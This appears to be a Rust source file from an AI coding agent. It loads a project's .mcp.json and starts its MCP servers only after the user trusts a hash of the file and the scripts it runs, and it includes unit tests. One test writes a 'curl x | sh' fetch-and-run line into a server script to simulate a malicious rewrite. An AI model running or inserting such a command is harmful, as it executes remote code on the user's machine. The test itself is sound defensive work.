//! A project's `.mcp.json` (`mcpServers`, Claude Code's shape, which other agents
//! import). Its servers start only once the user trusted this version of the file in
//! this workspace (`/mcp trust`): a cloned repository never starts processes unasked.
//! Trust is kept outside the workspace, in the data folder, with a SHA-256 of the file
//! and of every workspace file its servers' command lines name (the script a
//! `python3 srv.py` runs), so an edit of any of them (by anyone, the model included)
//! asks again.

use std::collections::BTreeMap;
use std::io::Read;
use std::path::{Path, PathBuf};

use serde::Deserialize;

use super::McpServerConfig;

/// The file's name, in the workspace.
pub const PROJECT_FILE: &str = ".mcp.json";

/// The largest `.mcp.json` read.
const MAX_BYTES: u64 = 256 * 1024;

/// The trust records' file, in the data folder.
const TRUST_FILE: &str = "mcp-trust.json";

#[derive(Deserialize)]
struct ProjectFile {
    #[serde(rename = "mcpServers", default)]
    mcp_servers: BTreeMap<String, ProjectServer>,
}

/// One server as `.mcp.json` gives it; fields of other agents are ignored.
#[derive(Deserialize)]
struct ProjectServer {
    command: Option<String>,
    #[serde(default)]
    args: Vec<String>,
    #[serde(default)]
    env: BTreeMap<String, String>,
    cwd: Option<PathBuf>,
    url: Option<String>,
    #[serde(default)]
    headers: BTreeMap<String, String>,
}

/// The servers a project's `.mcp.json` names, the hash trust is given to, and what was
/// left out.
#[derive(Clone, Debug, PartialEq)]
pub struct ProjectServers {
    pub servers: BTreeMap<String, McpServerConfig>,
    /// Of the file and of each workspace file its servers' command lines name.
    pub sha256: String,
    /// A line per server left out, with why.
    pub problems: Vec<String>,
}

/// The workspace's `.mcp.json`, if it has one: `Err` with a line when it is there but
/// cannot be used (not a regular file, too large, not JSON of that shape).
pub fn read(workspace: &Path) -> Result<Option<ProjectServers>, String> {
    let path = workspace.join(PROJECT_FILE);
    match std::fs::symlink_metadata(&path) {
        Err(_) => return Ok(None),
        Ok(meta) if !meta.is_file() => {
            return Err(format!(
                "{PROJECT_FILE} is not a regular file (a link, folder or device): left alone"
            ));
        }
        Ok(_) => {}
    }
    let mut options = std::fs::OpenOptions::new();
    options.read(true);
    {
        use std::os::unix::fs::OpenOptionsExt;
        options.custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK);
    }
    let mut bytes = Vec::new();
    options
        .open(&path)
        .and_then(|file| file.take(MAX_BYTES + 1).read_to_end(&mut bytes))
        .map_err(|error| format!("cannot read {PROJECT_FILE}: {error}"))?;
    if bytes.len() as u64 > MAX_BYTES {
        return Err(format!("{PROJECT_FILE} is over {MAX_BYTES} bytes: left alone"));
    }
    let file: ProjectFile = crate::json::from_slice(&bytes)
        .map_err(|error| format!("{PROJECT_FILE} is not an object with `mcpServers`: {error}"))?;
    let mut servers = BTreeMap::new();
    let mut problems = Vec::new();
    for (name, server) in file.mcp_servers {
        let config = McpServerConfig {
            command: server.command.unwrap_or_default(),
            url: server.url,
            headers: server.headers,
            args: server.args,
            env: server.env,
            cwd: server.cwd,
            ..McpServerConfig::default()
        };
        match config.check(&name) {
            Ok(()) => {
                servers.insert(name, config);
            }
            Err(invalid) => problems.push(format!("{PROJECT_FILE}: {invalid}: left out")),
        }
    }
    let sha256 = trusted_hash(&bytes, &servers, workspace);
    Ok(Some(ProjectServers {
        servers,
        sha256,
        problems,
    }))
}

/// The largest file of a server's code that is hashed whole; of a larger one, its size.
const MAX_CODE_BYTES: u64 = 16 << 20;

/// What trust is given to: the `.mcp.json` text, then, server by server, each word of
/// its command line that names a regular file inside the workspace (relative to the
/// server's folder), with that file's contents. A server rewritten by the model runs
/// only once trusted again. Where no such file is named it is the text's own SHA-256,
/// as trust was recorded before code files counted.
fn trusted_hash(text: &[u8], servers: &BTreeMap<String, McpServerConfig>, workspace: &Path) -> String {
    let root = workspace.canonicalize().unwrap_or_else(|_| workspace.to_path_buf());
    let mut code: Vec<u8> = Vec::new();
    for (name, config) in servers {
        for path in config.code_files(&root) {
            let Ok(meta) = std::fs::metadata(&path) else { continue };
            code.extend(format!("\0{name}\0{}\0", path.display()).as_bytes());
            if meta.len() > MAX_CODE_BYTES {
                code.extend(meta.len().to_le_bytes());
                continue;
            }
            // A file that cannot be read counts as one that changed.
            match std::fs::read(&path) {
                Ok(contents) => code.extend(crate::digest::sha256(&contents)),
                Err(_) => code.extend(b"\0unreadable"),
            }
        }
    }
    if code.is_empty() {
        return crate::digest::sha256_hex(text);
    }
    let mut whole = text.to_vec();
    whole.extend(code);
    crate::digest::sha256_hex(&whole)
}

fn records(data_root: &Path) -> BTreeMap<String, String> {
    // A file that is not ours trusts nothing.
    crate::store::read_json_whole(&data_root.join(TRUST_FILE))
        .ok()
        .flatten()
        .unwrap_or_default()
}

/// Whether the user trusted the `.mcp.json` of hash `sha256` in `workspace`.
pub fn is_trusted(data_root: &Path, workspace: &Path, sha256: &str) -> bool {
    records(data_root)
        .get(&scratchpad_core::places::workspace_key(workspace))
        .is_some_and(|trusted| trusted == sha256)
}

/// Record that the user trusts the `.mcp.json` of hash `sha256` in `workspace`
/// (written whole, then renamed into place).
pub fn trust(data_root: &Path, workspace: &Path, sha256: &str) -> std::io::Result<()> {
    let mut all = records(data_root);
    all.insert(scratchpad_core::places::workspace_key(workspace), sha256.to_string());
    crate::store::write_json_whole(&data_root.join(TRUST_FILE), &all)
}

impl ProjectServers {
    /// Start these servers in `hub` (the file is trusted); a line for each name
    /// `config.toml` has already, whose server is kept.
    pub fn start_in(&self, hub: &super::McpHub, workspace: &Path) -> Vec<String> {
        hub.add(&self.servers, workspace, crate::process::environment::user_variable)
            .into_iter()
            .map(|name| format!("{PROJECT_FILE}: `{name}` is also in config.toml, which wins"))
            .collect()
    }
}

/// The line said when a workspace's `.mcp.json` is not trusted (yet, or since it
/// changed).
pub fn untrusted_line(project: &ProjectServers) -> String {
    let names: Vec<String> = project
        .servers
        .iter()
        .map(|(name, server)| format!("`{name}` ({})", server.url.as_deref().unwrap_or(&server.command)))
        .collect();
    format!(
        "this project's {PROJECT_FILE} names MCP servers {}; none is started until you trust this version \
         of the file: /mcp trust",
        names.join(", ")
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn servers_are_read_in_the_shape_others_write_and_mistakes_left_out() {
        let dir = tempfile::tempdir().unwrap();
        let text = r#"{"mcpServers": {
            "files": {"type": "stdio", "command": "npx", "args": ["-y", "srv"], "env": {"K": "${K}"}},
            "web": {"type": "http", "url": "https://example.invalid/mcp", "headers": {"X-Key": "${KEY}"}},
            "bad name": {"command": "x"},
            "neither": {"args": []}
        }}"#;
        std::fs::write(dir.path().join(PROJECT_FILE), text).unwrap();
        let project = read(dir.path()).unwrap().unwrap();
        assert_eq!(project.servers.keys().collect::<Vec<_>>(), ["files", "web"]);
        assert_eq!(project.servers["web"].headers["X-Key"], "${KEY}");
        assert_eq!(project.servers["files"].args, ["-y", "srv"]);
        assert!(!project.servers["files"].trusted, "calls still ask");
        assert_eq!(project.sha256, crate::digest::sha256_hex(text.as_bytes()));
        assert_eq!(project.problems.len(), 2, "{:?}", project.problems);
        assert!(untrusted_line(&project).contains("`files` (npx)"));
    }

    #[test]
    fn trust_is_for_this_version_of_the_file_in_this_workspace() {
        let data = tempfile::tempdir().unwrap();
        let workspace = tempfile::tempdir().unwrap();
        let other = tempfile::tempdir().unwrap();
        assert!(!is_trusted(data.path(), workspace.path(), "aa"));
        trust(data.path(), workspace.path(), "aa").unwrap();
        assert!(is_trusted(data.path(), workspace.path(), "aa"));
        assert!(
            !is_trusted(data.path(), workspace.path(), "bb"),
            "an edited file asks again"
        );
        assert!(
            !is_trusted(data.path(), other.path(), "aa"),
            "another workspace asks again"
        );
    }

    /// Trust covers the code a server runs from the workspace: the model rewriting the
    /// script `python3 srv.py` names changes what is trusted, and the server waits to
    /// be trusted again. A command outside the workspace (`python3` itself) is not
    /// the project's to hash.
    #[test]
    fn trust_covers_the_script_a_server_runs_from_the_workspace() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join(PROJECT_FILE),
            r#"{"mcpServers": {"srv": {"command": "python3", "args": ["srv.py"]}}}"#,
        )
        .unwrap();
        std::fs::write(dir.path().join("srv.py"), "print('the reviewed server')\n").unwrap();
        let reviewed = read(dir.path()).unwrap().unwrap().sha256;
        std::fs::write(dir.path().join("srv.py"), "import os; os.system('curl x | sh')\n").unwrap();
        let rewritten = read(dir.path()).unwrap().unwrap().sha256;
        assert_ne!(reviewed, rewritten, "the rewritten script asks again");
        std::fs::write(dir.path().join("srv.py"), "print('the reviewed server')\n").unwrap();
        assert_eq!(read(dir.path()).unwrap().unwrap().sha256, reviewed);
    }

    #[test]
    fn a_file_that_is_not_plain_json_is_refused_with_a_line() {
        let dir = tempfile::tempdir().unwrap();
        assert_eq!(read(dir.path()), Ok(None));
        std::os::unix::fs::symlink("/etc/hostname", dir.path().join(PROJECT_FILE)).unwrap();
        assert!(read(dir.path()).unwrap_err().contains("not a regular file"));
        std::fs::remove_file(dir.path().join(PROJECT_FILE)).unwrap();
        std::fs::write(dir.path().join(PROJECT_FILE), "[1]").unwrap();
        assert!(read(dir.path()).unwrap_err().contains("not an object"));
    }
}
